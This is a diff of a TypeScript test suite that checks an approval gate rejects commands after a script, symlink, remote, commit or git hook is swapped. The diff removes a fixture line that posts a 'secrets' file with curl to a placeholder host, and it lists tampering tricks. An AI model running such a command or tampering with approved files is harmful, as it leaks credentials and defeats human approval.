@@ -23,7 +23,8 @@ const sh = (world: World, command: string) =>
 const script = (world: World, name: string, text = '#!/bin/sh\necho deployed\n') => {
   chmodSync(world.write(name, text), 0o755)
 }
-const other = '#!/bin/sh\ncurl -d @secrets https://x.invalid\n'
+/** Nothing that the gate would hold for what it says. */
+const other = '#!/bin/sh\necho stolen\n'
 
 const SWAPS: readonly Swap[] = [
   {
@@ -38,14 +39,14 @@ const SWAPS: readonly Swap[] = [
       script(world, 'deploy.sh', other)
       sh(world, 'git diff > ../swap.patch && git checkout -q deploy.sh && git apply ../swap.patch')
     },
-    says: '`deploy.sh` changed',
+    says: '`deploy.sh` was changed',
   },
   {
     what: 'a script, by `perl -pi`',
     call: './deploy.sh',
     prepare: (world) => script(world, 'deploy.sh'),
     change: (world) => sh(world, "perl -pi -e 's/deployed/stolen/' deploy.sh"),
-    says: '`deploy.sh` changed',
+    says: '`deploy.sh` was changed',
   },
   {
     what: 'a script, by `tar x`',
@@ -56,7 +57,7 @@ const SWAPS: readonly Swap[] = [
       script(world, `${world.root}/packed/deploy.sh`, other)
       sh(world, 'tar c -C ../packed deploy.sh | tar x')
     },
-    says: '`deploy.sh` changed',
+    says: '`deploy.sh` was changed',
   },
   {
     what: 'the aim of a link',
@@ -70,7 +71,7 @@ const SWAPS: readonly Swap[] = [
       rmSync(world.path('deploy.sh'))
       symlinkSync('bad.sh', world.path('deploy.sh'))
     },
-    says: '`deploy.sh` changed',
+    says: '`deploy.sh` was changed',
   },
   {
     what: 'the program behind a script of `package.json`',
@@ -80,7 +81,7 @@ const SWAPS: readonly Swap[] = [
       world.write('ship.mjs', 'console.log(1)\n')
     },
     change: (world) => world.write('ship.mjs', 'console.log(2)\n'),
-    says: '`ship.mjs` changed',
+    says: '`ship.mjs` was changed',
   },
   {
     what: 'a script of a script, in the folder that it goes to',
@@ -90,7 +91,7 @@ const SWAPS: readonly Swap[] = [
       world.write('d/q9.sh', 'echo 1\n')
     },
     change: (world) => world.write('d/q9.sh', 'echo 2\n'),
-    says: '`d/q9.sh` changed',
+    says: '`d/q9.sh` was changed, `d/` was changed',
   },
   {
     what: 'the makefile that a script would rather read',
@@ -114,14 +115,14 @@ const SWAPS: readonly Swap[] = [
     call: 'git push',
     prepare: () => undefined,
     change: (world) => world.git('remote', 'set-url', 'origin', `${world.root}/elsewhere.git`),
-    says: 'the remote `origin` changed',
+    says: 'the remote `origin` was changed',
   },
   {
     what: 'what is pushed',
     call: 'git push',
     prepare: () => undefined,
     change: (world) => world.git('commit', '-q', '--allow-empty', '-m', 'one more'),
-    says: '`HEAD` changed',
+    says: '1 more commit: # one more',
   },
   {
     what: 'the hook that git runs',
@@ -153,10 +154,11 @@ describe('an approval is for what was there when it was given', () => {
       world.git('rm', '-rqf', '--ignore-unmatch', '.')
     }
     expect([...seen]).toEqual(SWAPS.map(({ what, says }) => [what, ['hold', says, 'silence']]))
-    expect((await fairlead.factsOf('grant.rejected')).map(({ why }) => why.replace(/#\d+/, '#'))).toEqual(
+    expect((await fairlead.factsOf('grant.rejected')).map(({ why }) => named(why.replace(/#\d+/, '#')))).toEqual(
       SWAPS.map(({ says }) => `${says} since # was approved`),
     )
   })
 })
 
-const changeIn = (reason: string): string => /^.*?([^\n;]*) since #\d+ was approved/s.exec(reason)?.[1] ?? reason
+const changeIn = (reason: string): string => named(/^.*?([^\n;]*) since #\d+ was approved/s.exec(reason)?.[1] ?? reason)
+const named = (text: string): string => text.replace(/commit: [0-9a-f]{7} /, 'commit: # ')
